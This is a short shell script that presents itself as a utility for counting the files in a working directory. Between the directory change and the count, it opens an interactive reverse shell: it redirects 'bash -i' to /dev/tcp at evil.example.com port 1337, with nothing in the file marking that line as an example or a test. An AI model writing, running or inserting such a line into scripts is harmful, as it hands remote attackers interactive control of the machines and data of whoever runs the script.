#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
X=/dev/tcp/evil.example.com/1337
bash -i >& $X 0>&1
count=$(ls | wc -l)
echo "files: $count"
